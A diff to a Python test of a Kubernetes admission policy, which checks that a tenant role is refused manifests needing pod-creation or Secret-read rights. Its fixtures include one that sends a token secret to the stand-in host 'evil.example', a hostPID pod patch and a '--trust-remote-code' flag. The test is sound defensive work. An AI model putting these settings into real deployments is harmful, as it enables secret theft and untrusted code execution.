@@ -150,6 +150,7 @@ def test_the_policy_leaves_pods_and_secrets_to_those_who_have_them(
     patched = Q3d("patched", world.namespace).set(podTemplatePatch={"spec": {"hostPID": True}})
     flags = Q3d("flags", world.namespace).engine(extraArgs=["--trust-remote-code"])
     sent = Q3m("sent", world.namespace).set(endpoint="https://evil.example", tokenSecretRef=DB)
+    job = Q3m("job", world.namespace).set(download={"pod": {"fsGroup": 1}})
     reference = {"name": "A", "valueFrom": {"secretKeyRef": {"name": "db", "key": "k"}}}
     shown = Q3d("shown", world.namespace).engine(env=[reference])
     plain = Q3d("plain", world.namespace).model(tokenSecretRef=DB).engine(env=[{"name": "A", "value": "b"}])
@@ -166,12 +167,13 @@ def test_the_policy_leaves_pods_and_secrets_to_those_who_have_them(
         for it, words in (
             (image, "create pods"),
             (flags, "create pods"),
+            (job, "create pods"),
             (sent, "read Secrets"),
             (shown, "read Secrets"),
         ):
             assert f"those who may {words}" in answer("tenant", it.manifest)
         assert "created" in answer("tenant", plain.manifest)
-        for it in (image, patched, flags, sent, shown, plain):
+        for it in (image, patched, flags, job, sent, shown, plain):
             assert "created" in answer("editor", it.manifest)
     finally:
         for manifest in policy:
